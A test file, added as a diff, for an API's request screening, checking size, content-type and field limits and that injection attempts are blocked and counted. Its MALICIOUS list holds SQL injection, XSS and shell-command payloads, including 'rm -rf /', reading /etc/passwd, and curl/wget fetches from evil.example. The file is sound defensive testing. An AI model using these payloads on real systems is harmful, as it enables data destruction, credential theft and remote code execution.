@@ -1,0 +1,118 @@
+"""Strict request models, size and content-type limits, and injection screening (both sides)."""
+
+from __future__ import annotations
+
+import pytest
+from structlog.testing import capture_logs
+
+from app.metrics import BLOCKED_REQUESTS
+from tests.app.conftest import Api
+
+pytestmark = pytest.mark.anyio
+
+
+def blocked(reason: str) -> float:
+    return BLOCKED_REQUESTS.labels(reason)._value.get()
+
+
+async def test_unknown_fields_are_refused(api: Api) -> None:
+    response = await api.complete(temprature=0.5)
+    assert response.status_code == 422
+    assert response.json()["errors"] == [{"location": "body.temprature", "message": "Extra inputs are not permitted"}]
+
+
+@pytest.mark.parametrize(
+    ("extra", "location"),
+    [
+        ({"max_tokens": 0}, "body.max_tokens"),
+        ({"temperature": 3}, "body.temperature"),
+        ({"model": "echo 1; drop"}, "body.model"),
+    ],
+)
+async def test_values_out_of_range_are_refused(api: Api, extra: dict, location: str) -> None:
+    response = await api.client.post("/v1/completions", json={"model": "echo-1", "prompt": "hi", **extra})
+    assert response.status_code == 422 and response.json()["errors"][0]["location"] == location
+
+
+async def test_an_unknown_model_is_a_400(api: Api) -> None:
+    response = await api.client.post("/v1/completions", json={"model": "gpt-9", "prompt": "hi"})
+    assert response.status_code == 400 and response.json()["detail"] == "unknown model 'gpt-9'; available: echo-1"
+
+
+async def test_bodies_over_the_limit_are_413(start) -> None:
+    async with start(max_body_bytes=2048) as api:
+        before = blocked("body_too_large")
+        response = await api.complete("word " * 1000)
+        assert response.status_code == 413 and response.headers["content-type"] == "application/problem+json"
+        assert blocked("body_too_large") == before + 1
+
+
+async def test_a_body_streamed_past_the_limit_without_a_length_is_413(start) -> None:
+    async with start(max_body_bytes=2048) as api:
+
+        async def chunks():
+            for _ in range(10):
+                yield b"x" * 512
+
+        response = await api.client.post(
+            "/v1/completions", content=chunks(), headers={"content-type": "application/json"}
+        )
+        assert response.status_code == 413
+
+
+async def test_only_json_bodies_are_accepted(api: Api) -> None:
+    response = await api.client.post("/v1/completions", content=b"model=echo-1", headers={"content-type": "text/plain"})
+    assert response.status_code == 415 and response.json()["detail"] == "expected Content-Type: application/json"
+
+
+MALICIOUS = [
+    ("sql_injection", "x' OR '1'='1"),
+    ("sql_injection", "1; DROP TABLE usage_records"),
+    ("sql_injection", "a' UNION SELECT secret_hash FROM api_keys --"),
+    ("sql_injection", "1' AND pg_sleep(10)"),
+    ("xss", "<script>alert(1)</script>"),
+    ("xss", '<img src=x onerror="alert(1)">'),
+    ("xss", "click javascript:alert(document.cookie)"),
+    ("command_injection", "hello; rm -rf /"),
+    ("command_injection", "$(curl http://evil.example/x.sh)"),
+    ("command_injection", "`cat /etc/passwd`"),
+    ("command_injection", "ok && wget http://evil.example"),
+]
+
+BENIGN = [
+    "Please select the best answer from the list below.",
+    "Explain the difference between <b> and <strong> in HTML.",
+    "What does SQL's UNION do, and when should I drop a table?",
+    "Write a haiku about the command line and the shell.",
+    "My script prints 'hello' -- is that a comment?",
+    "Compare 1 = 1 and 'a' = 'a' in logic.",
+    "How do I use cat and grep together?",
+    "The onerror handler in JavaScript: how does it work?",
+]
+
+
+@pytest.mark.parametrize(("reason", "prompt"), MALICIOUS)
+async def test_injection_patterns_are_blocked_and_counted(api: Api, reason: str, prompt: str) -> None:
+    before = blocked(reason)
+    response = await api.complete(prompt)
+    assert response.status_code == 400, prompt
+    assert response.json()["detail"] == f"the request looks like {reason.replace('_', ' ')}"
+    assert blocked(reason) == before + 1
+
+
+@pytest.mark.parametrize("prompt", BENIGN)
+async def test_ordinary_prose_passes(api: Api, prompt: str) -> None:
+    assert (await api.complete(prompt)).status_code == 200, prompt
+
+
+async def test_query_strings_are_screened_too(api: Api) -> None:
+    response = await api.client.get("/v1/usage", params={"filter": "x' OR '1'='1"})
+    assert response.status_code == 400
+
+
+async def test_log_only_mode_lets_the_request_through_and_says_so(start) -> None:
+    async with start(screening_mode="log") as api:
+        with capture_logs() as logs:
+            response = await api.complete("<script>alert(1)</script>")
+        assert response.status_code == 200
+        assert {"event": "screening flagged a request (log-only mode)", "reason": "xss"}.items() <= logs[0].items()
